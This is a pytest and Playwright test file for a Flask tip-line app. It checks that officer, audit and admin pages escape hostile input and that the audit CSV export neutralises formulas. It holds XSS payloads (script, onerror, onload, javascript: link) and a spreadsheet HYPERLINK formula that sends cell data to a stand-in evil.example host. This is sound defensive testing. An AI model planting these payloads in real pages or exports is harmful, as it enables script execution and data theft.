"""Markup in everything officers, auditors and admins are shown: escaped on every page.

The hostile strings arrive the way they would: the informant's text through the signed
webhook, the note and the reply through the tip page's forms, an officer's display name
through the admin's account form, unit names as `tipline units add` stores them. Every page
that shows one must show it escaped and never as markup; a Chromium run then checks that the
pages fire no dialog, grow no element from a payload and trip no CSP rule.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass

import pytest
from flask import Flask
from markupsafe import escape
from playwright.sync_api import Browser, ConsoleMessage, Dialog, Page, expect
from sqlalchemy import select

from keys import FAST_TEST_COST
from tests.browser import log_in
from tests.conftest import COMMUNE_OA, OFFICER_PASSWORD, expand
from tests.hostile.routes import Call, send
from tests.hostile.world import PROVINCE, UNIT_A, USER_A, World, build_world, send_event
from tests.zalo_events import event
from tipline.models import Officer, OfficialAccount, Unit
from tipline.officers import add_officer
from tipline.runtime import Runtime
from tipline.units import add_unit

TEXT = '<script>alert("tip-text")</script>'
NOTE = '<img src=x onerror=alert("note")>'
REPLY = '"><svg onload=alert("reply")>'
UNIT = '<b onmouseover=alert("unit-a")>Công an xã A</b>'
PROVINCE_NAME = "<a href=\"javascript:alert('province')\">Công an tỉnh</a>"
NEW_UNIT = '</option><script>alert("new-unit")</script>'
OFFICER = '<img src=x onerror=alert("officer")>'
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Bấm")'
# Zalo's own words in an OA's last error (a hostile or compromised Zalo answer).
ZALO_ERROR = 'zalo -224: <img src=x onerror=alert("zalo")>'
PAYLOADS = (TEXT, NOTE, REPLY, UNIT, PROVINCE_NAME, NEW_UNIT, OFFICER, ZALO_ERROR)


def make_hostile(world: World) -> str:
    """Put every payload where it belongs; the hostile officer's public id."""
    runtime = world.runtime
    assert send_event(world.fresh_client(), event(text=TEXT, msg_id="xss-1", user=USER_A)) == 200
    expand(runtime)
    with runtime.sessions() as db, db.begin():
        db.scalars(select(Unit).where(Unit.code == UNIT_A)).one().name = UNIT
        db.scalars(select(Unit).where(Unit.code == PROVINCE)).one().name = PROVINCE_NAME
        db.scalars(
            select(OfficialAccount).where(OfficialAccount.oa_id == COMMUNE_OA)
        ).one().last_error = ZALO_ERROR
        add_unit(db, code="x-ss", name=NEW_UNIT, level="commune", parent_code=PROVINCE)
        add_officer(
            db,
            username="canbo.xss",
            display_name="Cán bộ X",
            role="officer",
            unit_code="x-ss",
            password="correct horse battery",
            cost=FAST_TEST_COST,
        )
    admin = world.client("admin")
    created = send(
        admin,
        Call(
            "POST",
            "/admin/officers",
            form={
                "username": "canbo.moi",
                "display_name": OFFICER,
                "role": "officer",
                "unit": UNIT_A,
            },
        ),
        world.token(admin),
    )
    assert created.status_code == 200
    assert_escaped(created.get_data(as_text=True), OFFICER)
    # A key holder approves its unit key (tipline.grants): it can then be assigned unit A's
    # tips, and its name is shown among the tip page's choices.
    from tipline.grants import approve, pending_request
    from tipline.officers import holder_keys

    with runtime.sessions() as db, db.begin():
        new = db.scalars(select(Officer).where(Officer.username == "canbo.moi")).one()
        request = pending_request(db, new.id)
        assert request is not None
        commander, keys = holder_keys(db, "chihuy", OFFICER_PASSWORD)
        approve(db, request, commander, keys)
    with runtime.sessions() as db:
        return db.scalars(select(Officer.public_id).where(Officer.username == "canbo.moi")).one()


def assert_escaped(html: str, *shown: str) -> None:
    """No payload as markup anywhere; each of ``shown`` present, escaped."""
    for payload in PAYLOADS:
        assert payload not in html, payload
    for payload in shown:
        assert str(escape(payload)) in html, payload


@dataclass(frozen=True)
class Shown:
    role: str
    path: str
    payloads: tuple[str, ...]  # shown whole, escaped
    fragments: tuple[str, ...] = ()  # shown in pieces (a search snippet around its match)


PAGES: dict[str, Shown] = {
    "tip page": Shown("canbo", "/triage/tips/{tip}", (TEXT, NOTE, REPLY, UNIT, NEW_UNIT, OFFICER)),
    "tip page, escalation button": Shown("canbo", "/triage/tips/{tip}", (PROVINCE_NAME,)),
    "inbox": Shown("canbo", "/triage/", (UNIT,)),
    "commander's inbox": Shown("chihuy", "/triage/", (UNIT, PROVINCE_NAME, NEW_UNIT)),
    "search snippet": Shown(
        "canbo", "/triage/search/?q=tip-text", (UNIT,), ('<script>alert("', '")</script>')
    ),
    "search for markup": Shown(
        "canbo", "/triage/search/?q=%3Cscript%3E", (UNIT,), ("<script>", 'alert("tip-text")')
    ),
    "poster": Shown("canbo", "/triage/units/{unit}/poster", (UNIT,)),
    "dashboard": Shown("chihuy", "/triage/dashboard/", (UNIT,)),
    "audit log": Shown("thanhtra", "/audit/", (OFFICER, UNIT, PROVINCE_NAME, NEW_UNIT)),
    "officer's audit page": Shown("thanhtra", "/audit/officers/{officer}", (OFFICER,)),
    "anomalies": Shown("thanhtra", "/audit/anomalies", (OFFICER,)),
    "admin page": Shown("admin", "/admin/", (OFFICER, UNIT, PROVINCE_NAME, NEW_UNIT)),
    "admin's OA page": Shown("admin", "/admin/zalo/", (UNIT, PROVINCE_NAME, ZALO_ERROR)),
    "web form's unit list": Shown("anonymous", "/bao-tin", (UNIT, PROVINCE_NAME, NEW_UNIT)),
}


@pytest.fixture
def hostile(world: World) -> Iterator[tuple[World, str]]:
    officer = make_hostile(world)
    canbo = world.client("canbo")
    tip = f"/triage/tips/{world.tip_a}"
    for action, text in (("note", NOTE), ("reply", REPLY)):
        response = send(
            canbo, Call("POST", f"{tip}/{action}", form={"text": text}), world.token(canbo)
        )
        assert response.status_code == 302
    yield world, officer


@pytest.mark.parametrize("page", PAGES.values(), ids=PAGES.keys())
def test_every_page_shows_markup_escaped(hostile: tuple[World, str], page: Shown) -> None:
    world, officer = hostile
    path = page.path.format(tip=world.tip_a, unit=world.units[UNIT_A], officer=officer)
    response = world.client(page.role).get(path)
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert_escaped(html, *page.payloads)
    for fragment in page.fragments:
        assert str(escape(fragment)) in html and fragment not in html, fragment


def test_a_flashed_unit_name_is_escaped(hostile: tuple[World, str]) -> None:
    world, _officer = hostile
    chihuy = world.client("chihuy")
    tip = f"/triage/tips/{world.new_tip_a()}"
    response = send(
        chihuy, Call("POST", f"{tip}/escalate", form={"confirm": "1"}), world.token(chihuy)
    )
    assert response.status_code == 302
    assert_escaped(chihuy.get(tip).get_data(as_text=True), PROVINCE_NAME)


def test_the_audit_export_neither_runs_formulas_nor_loses_the_names(
    hostile: tuple[World, str],
) -> None:
    world, officer = hostile
    with world.runtime.sessions() as db, db.begin():
        db.scalars(select(Officer).where(Officer.public_id == officer)).one().display_name = FORMULA
    auditor = world.client("thanhtra")
    response = send(auditor, Call("POST", "/audit/export", form={}), world.token(auditor))
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert "'" + FORMULA in cells or all(FORMULA not in cell for cell in cells)


# --- in a browser: no dialog, no element from a payload, no CSP violation -------------------


def watch(page: Page) -> tuple[list[str], list[str]]:
    dialogs: list[str] = []
    violations: list[str] = []

    def on_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    def on_console(message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            violations.append(message.text)

    page.on("dialog", on_dialog)
    page.on("console", on_console)
    return dialogs, violations


def assert_inert(page: Page) -> None:
    for selector in ("img[src='x']", "svg[onload]", "b[onmouseover]", "a[href^='javascript']"):
        assert page.locator(selector).count() == 0, selector
    assert page.locator("script:not([src])").count() == 0


def test_in_chromium_no_dialog_fires_and_no_payload_becomes_an_element(
    browser: Browser, app: Flask, runtime: Runtime, units: dict[str, str], sim: str
) -> None:
    world = build_world(app, runtime, units)
    make_hostile(world)  # logs the admin in, not canbo or chihuy: their codes stay unused
    context = browser.new_context()
    page = context.new_page()
    dialogs, violations = watch(page)
    log_in(page, sim, "canbo", units["totp:canbo"])
    page.goto(f"{sim}/triage/tips/{world.tip_a}")
    page.fill("#note-text", NOTE)
    page.click("#form-note button")
    page.fill("#reply-text", REPLY)
    page.click("#form-reply button")
    expect(page.locator(".msg.note .text").last).to_have_text(NOTE)
    expect(page.locator(".msg.out .text").last).to_have_text(REPLY)
    expect(page.locator(".msg.in .text").last).to_have_text(TEXT)
    expect(page.locator("#tip-unit")).to_have_text(UNIT)
    page.locator("#tip-unit").hover()
    assert_inert(page)
    for path in (
        "/triage/",
        "/triage/search/?q=tip-text",
        f"/triage/units/{world.units[UNIT_A]}/poster",
    ):
        page.goto(f"{sim}{path}")
        assert_inert(page)
    commander = browser.new_context()
    other = commander.new_page()
    more_dialogs, more_violations = watch(other)
    log_in(other, sim, "chihuy", units["totp:chihuy"], "/triage/dashboard/")
    for path in ("/triage/", "/triage/dashboard/", f"/triage/tips/{world.tip_a}"):
        other.goto(f"{sim}{path}")
        assert_inert(other)
    assert dialogs + more_dialogs == []
    assert violations + more_violations == []
    context.close()
    commander.close()
